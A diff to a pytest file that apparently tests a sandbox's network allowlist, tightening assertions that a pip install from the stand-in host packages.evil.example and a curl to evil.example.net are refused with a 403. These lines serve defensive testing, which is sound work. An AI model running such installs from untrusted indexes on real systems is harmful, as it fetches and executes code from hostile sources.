@@ -51,7 +51,8 @@ def test_pip_refused(internet, one_net_box):
     """From anywhere else nothing comes, and what pip shows says why."""
     elsewhere = internet.site("packages.evil.example")
     result = one_net_box.run("/usr/bin/python3 -m pip install --no-cache-dir --retries 1 --disable-pip-version-check --target /workspace/lib --index-url https://packages.evil.example/simple tiny", "sh", allow="python-packages")
-    assert result.verdict != "ok" and "403" in result.stdout + result.stderr and elsewhere.accepted == 0, result.explain()
+    shown = result.stdout + result.stderr
+    assert result.verdict != "ok" and "403" in shown and "not in the allowlist" in shown and elsewhere.accepted == 0, result.explain()
 
 
 @pytest.mark.skipif(not shutil.which("npm") or not os.path.realpath(shutil.which("npm") or "/").startswith("/usr/"), reason="npm is not installed on this host, below /usr")
@@ -149,7 +150,7 @@ curl -sS https://evil.example.net/ 2>&1 | grep -o 403
 """
     result = one_net_box.run(code, "sh", allow=["http://plain.example.com", "secure.example.com"])
     lines = result.stdout.splitlines()
-    assert lines[:6] == ["GET /a", "GET /b", "GET /c", "GET /there", "3000000", "HTTP/1.1 200 OK"] or lines[5].startswith("HTTP/1.1 200"), result.explain()
+    assert lines[:5] == ["GET /a", "GET /b", "GET /c", "GET /there", "3000000"] and lines[5].startswith("HTTP/1.1 200"), result.explain()
     assert "evil.example.net" in lines[6] and lines[7] == "403", result.explain()
 
 
